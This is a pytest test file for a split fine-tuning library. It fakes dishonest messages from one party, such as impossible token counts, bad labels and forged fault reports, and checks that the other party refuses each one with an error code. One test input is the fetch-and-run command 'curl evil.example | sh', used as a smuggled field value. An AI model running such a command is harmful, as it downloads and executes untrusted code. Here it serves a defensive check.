"""A half that says what no honest half could: the other one refuses it by its code, and takes nothing over from it."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import splitcore
from splitcore.control.events import SERVER
from splitcore.errors import AppError
from splitcore.models.tests.tiny import rows
from splitcore.step.link import Link
from splitcore.training.tests.conftest import run_config
from splitcore.wire.protocol.messages import Kind

Model = Callable[[str], Path]
Change = Callable[[Kind, dict[str, Any]], None]
Lie = Callable[[str, Change], None]
SHARDS = {"a": rows(8), "b": rows(8)}
TRAINING = {"steps": 2, "eval_every": 0}


@pytest.fixture
def lie(monkeypatch: pytest.MonkeyPatch) -> Lie:
    """Change what a half sends; every frame still passes the wire's own rules."""
    send = Link.send

    def tell(liar: str, change: Change) -> None:
        def sent(self: Link, kind: Kind, **parts: Any) -> None:
            if self._controller.party == liar:
                change(kind, parts)
            send(self, kind, **parts)

        monkeypatch.setattr(Link, "send", sent)

    return tell


def says(wanted: Kind, **fields: Any) -> Change:
    """Every message of a kind has these fields in its body."""

    def change(kind: Kind, parts: dict[str, Any]) -> None:
        if kind is wanted:
            parts["body"] = {**(parts.get("body") or {}), **fields}

    return change


def labels(value: int) -> Change:
    """Some labels are another number."""

    def change(kind: Kind, parts: dict[str, Any]) -> None:
        if "labels" in (parts.get("tensors") or {}):
            changed, codec = parts["tensors"]["labels"]
            changed = changed.clone()
            changed[:, -3:] = value
            parts["tensors"] = {**parts["tensors"], "labels": (changed, codec)}

    return change


def refused(folder: Path, out: Path, **changes: Any) -> str:
    with pytest.raises(AppError) as caught:
        splitcore.fine_tune(run_config(folder, **{"training": TRAINING, **changes}), SHARDS, out=out)
    return caught.value.code


@pytest.mark.parametrize("tokens", [0, -4, 10**6, 1 << 60, 10**400])
def test_a_party_cannot_outweigh_the_others_by_a_count_that_no_batch_has(
    model: Model, tmp_path: Path, lie: Lie, tokens: int
) -> None:
    lie("b", says(Kind.STEP_BEGIN, tokens=tokens))
    assert refused(model("llama"), tmp_path / "out") in ("CL-1505", "CL-1301")


@pytest.mark.parametrize("tokens", [0, 10**6, 1e18, -10, True])
def test_averaged_ends_count_by_the_tokens_that_were_told_step_by_step(
    model: Model, tmp_path: Path, lie: Lie, tokens: float
) -> None:
    lie("b", says(Kind.ADAPTER_WEIGHTS, tokens=tokens))
    schedule = {"name": "parallel", "aggregate_every": 2}
    assert refused(model("llama"), tmp_path / "out", schedule=schedule) == "CL-1505"


@pytest.mark.parametrize("value", [-99, -1])
def test_a_label_that_is_no_token_is_refused(model: Model, tmp_path: Path, lie: Lie, value: int) -> None:
    lie("b", labels(value))
    split = {"topology": "vanilla", "tail_layers": 0}
    assert refused(model("llama"), tmp_path / "out", split=split) == "CL-1311"


@pytest.mark.parametrize("count", [0, -5, 10**400])
def test_a_party_without_rows_is_refused(model: Model, tmp_path: Path, lie: Lie, count: int) -> None:
    lie("b", says(Kind.HELLO, rows=count))
    training = {"steps": None, "epochs": 1, "eval_every": 0}
    assert refused(model("llama"), tmp_path / "out", training=training) in ("CL-1505", "CL-1301")


@pytest.mark.parametrize("tokens", [0, -5, 1])
def test_a_party_trains_by_no_smaller_sum_than_its_own_tokens(
    model: Model, tmp_path: Path, lie: Lie, tokens: int
) -> None:
    lie(SERVER, says(Kind.STEP_TOTAL, tokens=tokens))
    assert refused(model("llama"), tmp_path / "out") == "CL-1505"


@pytest.mark.parametrize(
    "fault",
    [
        {"source": "curl evil.example | sh", "where": "head", "rows": "a"},
        {"source": "a", "where": "head", "rows": "someone else"},
        {"source": "a", "where": "elsewhere", "rows": "a"},
    ],
)
def test_where_a_value_was_not_finite_is_told_by_the_names_of_the_run_alone(
    model: Model, tmp_path: Path, lie: Lie, fault: dict[str, str]
) -> None:
    lie(SERVER, says(Kind.AGGREGATE, **fault))
    assert refused(model("llama"), tmp_path / "out") == "CL-1505"


@pytest.mark.parametrize("token", [-1, 1 << 30, "5", 1.5, True, None])
def test_an_answer_has_tokens_of_the_vocabulary(model: Model, tmp_path: Path, lie: Lie, token: object) -> None:
    def change(kind: Kind, parts: dict[str, Any]) -> None:
        if "next" in (parts.get("body") or {}):
            parts["body"] = {**parts["body"], "next": [token]}

    lie(SERVER, change)
    config = run_config(
        model("llama"), training=TRAINING | {"eval_every": 1}, split={"topology": "vanilla", "tail_layers": 0}
    )
    with pytest.raises(AppError) as caught:
        splitcore.fine_tune(config, SHARDS, out=tmp_path / "out", sample_prompts=["one public prompt"])
    assert caught.value.code == "CL-1505"
